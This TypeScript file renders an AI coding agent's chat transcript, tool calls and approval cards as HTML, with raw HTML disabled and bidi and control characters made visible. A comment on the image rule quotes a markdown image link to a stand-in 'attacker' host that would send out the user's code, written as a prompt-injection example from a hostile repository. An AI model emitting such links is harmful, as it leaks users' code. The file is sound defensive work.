/**
 * Transcript entries → HTML strings. Markdown is rendered with raw HTML
 * disabled, so nothing a model or tool writes can inject markup or script,
 * and images are not loaded (nothing it writes makes a request).
 */
import hljs from "highlight.js/lib/common";
import MarkdownIt from "markdown-it";
import type { ApprovalEntry, AssistantEntry, Entry, RecalledEntry, RetryEntry, ToolEntry } from "../chat/entries";

/** Fenced code: diffs coloured line by line, known languages highlighted (highlight.js, bundled). */
function highlight(code: string, language: string): string {
  const lang = language.trim().toLowerCase();
  if (lang === "diff" || lang === "patch") {
    return renderDiff(code.replace(/\n$/, ""));
  }
  if (lang !== "" && hljs.getLanguage(lang) !== undefined) {
    const html = hljs.highlight(code, { language: lang, ignoreIllegals: true }).value;
    return `<pre class="hljs"><code class="language-${escapeHtml(lang)}">${html}</code></pre>`;
  }
  return "";
}

const markdown = new MarkdownIt({ html: false, linkify: false, breaks: false, typographer: false, highlight });

/**
 * An image is shown as its text and address, never loaded: a model a hostile
 * repository talked into it could write `![](https://attacker/?q=<your code>)`,
 * and the webview would send that request the moment the reply is drawn.
 */
markdown.renderer.rules.image = (tokens, index) => {
  const token = tokens[index];
  const alt = (token?.children ?? []).map((child) => child.content).join("");
  const src = String(token?.attrGet("src") ?? "");
  return `<span class="image-ref">[image${alt ? `: ${escapeHtml(alt)}` : ""}] ${escapeHtml(src)}</span>`;
};

export function renderMarkdown(text: string): string {
  return markdown.render(text);
}

export function escapeHtml(text: string): string {
  return text
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/'/g, "&#39;");
}

/** The inner HTML of one entry; the caller owns the wrapper element and its classes. */
export function renderEntry(entry: Entry): string {
  switch (entry.kind) {
    case "user":
      return `<div class="who">You</div><div class="body plain">${escapeHtml(entry.text)}</div>`;
    case "recalled":
      return renderRecalled(entry);
    case "retry":
      return renderRetry(entry);
    case "assistant":
      return renderAssistant(entry);
    case "tool":
      return renderTool(entry);
    case "notice":
      return `<div class="body md">${renderMarkdown(entry.markdown)}</div>`;
    case "approval":
      return renderApproval(entry);
  }
}

/** Space-separated classes for the wrapper element of an entry. */
export function entryClasses(entry: Entry): string {
  const classes = ["entry", entry.kind];
  if (entry.kind === "assistant" && entry.streaming) {
    classes.push("streaming");
  }
  if (entry.kind === "tool") {
    classes.push(entry.pending ? "pending" : entry.isError ? "failed" : "ok");
  }
  if (entry.kind === "notice") {
    classes.push(entry.level);
  }
  if (entry.kind === "approval") {
    classes.push(entry.state);
  }
  if (entry.kind === "retry" && !entry.active) {
    classes.push("done");
  }
  return classes.join(" ");
}

const SOURCE_WORDS: Record<string, string> = {
  memory: "memory",
  history: "earlier in this session",
  reflection: "the retry's reflection",
  data: "background data",
};

function renderRecalled(entry: RecalledEntry): string {
  const from = entry.sources.map((source) => SOURCE_WORDS[source] ?? source).join(", ");
  const what = entry.titles.length > 0 ? entry.titles.join(", ") : from;
  return (
    `<details class="recalled-chip"><summary><span class="chip">recalled</span>` +
    `<span class="recalled-what">${escapeHtml(what)}</span><span class="recalled-from">from ${escapeHtml(from)}</span>` +
    `</summary><div class="body md">${renderMarkdown(entry.text)}</div></details>`
  );
}

function renderRetry(entry: RetryEntry): string {
  return `<span class="retry-text">${escapeHtml(entry.active ? entry.text : `${entry.text} (retried)`)}</span>`;
}

function renderAssistant(entry: AssistantEntry): string {
  const usage = entry.usage ? `<div class="usage">${escapeHtml(entry.usage)}</div>` : "";
  return `<div class="who">bonsai</div><div class="body md">${renderMarkdown(entry.text)}</div>${usage}`;
}

function renderTool(entry: ToolEntry): string {
  const state = entry.pending ? "running…" : entry.isError ? "failed" : "done";
  const args = entry.args === "" ? "" : `<div class="label">arguments</div><pre>${escapeHtml(entry.args)}</pre>`;
  const result =
    entry.result === undefined ? "" : `<div class="label">result</div><pre>${escapeHtml(entry.result)}</pre>`;
  return (
    `<details class="tool-card"><summary><span class="tool-name">${escapeHtml(entry.name)}</span>` +
    `<span class="tool-preview">${escapeHtml(argsPreview(entry.args))}</span>` +
    `<span class="tool-state">${state}</span></summary>${args}${result}</details>`
  );
}

/** C0 controls but tab and newline, DEL, C1 controls; bidi embeddings, overrides, isolates and marks. */
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;

/**
 * What an approval shows, with every character that would reorder or hide text written
 * out (`\u202e`), as the CLI does: a card must show the command that runs.
 */
export function visibleControls(text: string): string {
  return text.replace(UNSAFE, (char) => {
    const code = char.charCodeAt(0);
    return code <= 0xff ? `\\x${code.toString(16).padStart(2, "0")}` : `\\u${code.toString(16).padStart(4, "0")}`;
  });
}

function approvalDetail(entry: ApprovalEntry): string {
  if (entry.command !== undefined) {
    const where = entry.cwd ? `<div class="where">in <code>${escapeHtml(visibleControls(entry.cwd))}</code></div>` : "";
    return `<pre class="command">$ ${escapeHtml(visibleControls(entry.command))}</pre>${where}`;
  }
  const path = entry.path ? visibleControls(entry.path) : "";
  const file = path ? `<div class="where">${escapeHtml(path)} · the diff is open beside</div>` : "";
  const diff = entry.diff
    ? renderDiff(visibleControls(entry.diff))
    : `<pre>${escapeHtml(visibleControls(entry.args))}</pre>`;
  return `${file}${diff}`;
}

function renderApproval(entry: ApprovalEntry): string {
  const id = escapeHtml(entry.key.slice("approval:".length));
  const warning =
    entry.warning && entry.state === "pending" ? `<div class="warning">${escapeHtml(entry.warning)}</div>` : "";
  const actions =
    entry.state === "pending"
      ? `<div class="actions"><button class="approve" data-approval="${id}" data-approved="true">Approve</button>` +
        `<button class="reject secondary" data-approval="${id}" data-approved="false">Reject</button></div>`
      : `<div class="verdict">${escapeHtml(entry.verdict ?? approvalVerdict(entry.state))}</div>`;
  return `<div class="title">Approve <code>${escapeHtml(entry.tool)}</code>?</div>${approvalDetail(entry)}${warning}${actions}`;
}

function approvalVerdict(state: ApprovalEntry["state"]): string {
  switch (state) {
    case "approved":
      return "Approved";
    case "rejected":
      return "Rejected";
    case "expired":
      return "Answered elsewhere or cancelled";
    case "pending":
      return "Waiting";
  }
}

/** A unified diff with added and removed lines marked for styling. */
export function renderDiff(diff: string): string {
  const lines = diff.split("\n").map((line) => {
    const cls =
      line.startsWith("+") && !line.startsWith("+++")
        ? "add"
        : line.startsWith("-") && !line.startsWith("---")
          ? "del"
          : line.startsWith("@@")
            ? "hunk"
            : "ctx";
    return `<span class="${cls}">${escapeHtml(line)}</span>`;
  });
  return `<pre class="diff">${lines.join("\n")}</pre>`;
}

/** Arguments that say what a call is about, shown first in its one-line preview. */
const MEANINGFUL = ["path", "command", "pattern", "query", "url", "name"];

/** A call's arguments on one line: `path=notes.txt, old_string=…`, the meaningful ones first. */
export function argsPreview(args: string): string {
  let parsed: unknown;
  try {
    parsed = JSON.parse(args);
  } catch {
    return oneLine(args);
  }
  if (parsed === null || typeof parsed !== "object" || Array.isArray(parsed)) {
    return oneLine(args);
  }
  const rank = (key: string) => (MEANINGFUL.includes(key) ? MEANINGFUL.indexOf(key) : MEANINGFUL.length);
  const keys = Object.keys(parsed).sort((a, b) => rank(a) - rank(b) || a.localeCompare(b));
  const value = (v: unknown) => (typeof v === "string" ? v : JSON.stringify(v));
  return oneLine(keys.map((key) => `${key}=${value((parsed as Record<string, unknown>)[key])}`).join(", "));
}

function oneLine(text: string): string {
  const flat = text.replace(/\s+/g, " ").trim();
  return flat.length > 60 ? `${flat.slice(0, 59)}…` : flat;
}
